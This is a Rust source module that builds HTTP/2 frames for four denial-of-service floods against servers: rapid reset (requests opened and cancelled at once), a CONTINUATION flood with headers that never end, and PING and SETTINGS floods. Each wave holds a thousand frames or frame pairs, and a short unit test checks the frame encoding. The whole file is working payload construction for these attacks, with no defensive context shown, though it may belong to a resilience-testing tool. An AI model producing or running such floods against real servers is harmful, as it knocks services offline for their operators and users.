//! Frames of HTTP/2 (RFC 9113) that cost whoever sends them little.

/// What a connection begins with.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `POST /sync` of the authority `x`, as HPACK has it without its tables: `:method` and `:scheme` by number, two literals.
const REQUEST: &[u8] = b"\x83\x86\x04\x05/sync\x01\x01x";
/// The header `a: b`, as a literal.
const HEADER: &[u8] = b"\x00\x01a\x01b";
/// The code CANCEL.
const CANCEL: &[u8] = &[0, 0, 0, 8];

/// Frames, or pairs of them, in one go.
const WAVE: u32 = 1_000;

/// What a flood is made of.
#[derive(Copy, Clone, Debug)]
pub(super) enum Flood {
    /// Requests that are taken back at once.
    Resets,
    /// A request whose headers never end.
    Continuations,
    /// Pings, each to be answered.
    Pings,
    /// Settings, each to be acknowledged.
    Settings,
}

impl Flood {
    /// Each of them.
    pub(super) const ALL: [Self; 4] = [Self::Resets, Self::Continuations, Self::Pings, Self::Settings];

    /// What a connection begins with.
    pub(super) fn opening(self) -> Vec<u8> {
        let begun = match self {
            Self::Continuations => frame(HEADERS, END_STREAM, 1, REQUEST),
            Self::Resets | Self::Pings | Self::Settings => Vec::new(),
        };
        [PREFACE, &frame(SETTINGS, 0, 0, &[]), &begun].concat()
    }

    /// What is sent in one go, the `wave`th time on a connection, counted from 0.
    pub(super) fn wave(self, wave: u32) -> Vec<u8> {
        let frames = |at| match self {
            Self::Resets => {
                // A client's streams have odd numbers, and none is used twice.
                let stream = 2 * (wave * WAVE + at) + 1;
                let asked = frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
                [asked, frame(RST_STREAM, 0, stream, CANCEL)].concat()
            }
            Self::Continuations => frame(CONTINUATION, 0, 1, HEADER),
            Self::Pings => frame(PING, 0, 0, &[0; 8]),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
        };
        (0..WAVE).flat_map(frames).collect()
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_as_the_protocol_has_them() {
        assert_eq!(frame(PING, 1, 2, &[9; 8]), [0, 0, 8, 6, 1, 0, 0, 0, 2, 9, 9, 9, 9, 9, 9, 9, 9]);
        let resets = Flood::Resets.wave(1);
        let pair = 9 + REQUEST.len() + 9 + CANCEL.len();
        assert_eq!(resets.len(), WAVE as usize * pair);
        assert_eq!(resets[..9], [0, 0, 12, HEADERS, 5, 0, 0, 0x07, 0xd1], "stream 2001");
    }
}
